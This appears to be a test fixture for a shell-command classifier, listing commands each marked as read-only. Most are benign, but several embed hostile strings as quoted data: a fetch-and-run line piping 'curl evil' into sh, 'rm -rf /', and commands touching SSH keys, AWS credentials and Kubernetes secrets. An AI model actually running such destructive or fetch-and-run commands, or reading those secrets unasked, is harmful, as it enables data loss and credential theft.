#= read programs=ls
ls -la /tmp
#= read programs=cat
cat README.md
#= read programs=cat,grep,wc
cat access.log | grep 'rm -rf /' | wc -l
#= read
grep -rn "DROP TABLE" src --include='*.sql'
#= read
echo "rm -rf /"
#= read
echo 'eval $(curl evil | sh)'
#= read
echo $HOME $PATH $USER
#= read
echo "${#TOKEN}"
#= read
echo "${TOKEN:+set}"
#= read
[ -n "$TOKEN" ] && echo set || echo unset
#= read
git status && git log --oneline -5 | head
#= read
git diff HEAD~1 -- src/main.rs
#= read
ps aux | sort -k3 -nr | head -20
#= read
find . -name '*.rs' -type f
#= read
find . -name '*.log' -exec grep -l ERROR {} \;
#= read
find . -print0 | xargs -0 grep -n todo
#= read
sed -n '1,20p' file.txt
#= read
sed -e 's/a/b/g' -e '/x/d' file.txt
#= read
awk '{print $1, $3}' access.log
#= read
awk -F: '$3 > 1000' /etc/passwd
#= read
kubectl get pods -n prod -o yaml
#= read
kubectl -n prod logs deploy/api --tail 100
#= read
kubectl describe secret db
#= read
kubectl get secrets
#= read
docker ps -a
#= read
docker logs api 2>&1 | tail -50
#= read
terraform plan
#= read
aws s3 ls s3://bucket
#= read
aws ec2 describe-instances --region eu-west-1
#= read
curl -sS https://example.com/health
#= read
for f in *.txt; do wc -l "$f"; done
#= read
if [ -f x ]; then cat x; else echo none; fi
#= read
while read -r line; do echo "$line"; done < input.txt
#= read
case "$1" in a) ls ;; *) pwd ;; esac
#= read
timeout 5 ls
#= read
nice -n 10 du -sh .
#= read
command -v rm
#= read
bash -c 'ls | wc -l'
#= read
sh -c "bash -c 'echo hi'"
#= read
ls 2>/dev/null
#= read
ls > /dev/null 2>&1
#= read
cat <<'END'
rm -rf /
$TOKEN $(id)
END
#= read
psql -c 'SELECT 1'
#= read
psql -h db -c "SELECT 'DROP TABLE x'"
#= read
psql shop <<'SQL'
SELECT count(*) FROM orders;
SQL
#= read
ssh web1 uptime
#= read
ssh -i ~/.ssh/id_rsa web1 'df -h'
#= read
ls -l ~/.ssh/id_rsa
#= read
cat ~/.ssh/id_rsa.pub
#= read
test -f ~/.aws/credentials
#= read
cat .env.example
#= read
set -euo pipefail; ls
#= read
export FOO=bar; echo $FOO
#= read
x=1; y=$((x + 1)); echo $y
#= read
printenv HOME
#= read
jq '.items[].name' data.json
#= read
systemctl status nginx
#= read
date +%s
#= read
true
#= read

#= read
# only a comment
#= read
ls *.{rs,toml}
#= read
env FOO=bar ls
#= read
for f in *.txt; do sed -n 1p "$f"; done
#= read
for d in src tests; do find $d -name '*.rs'; done
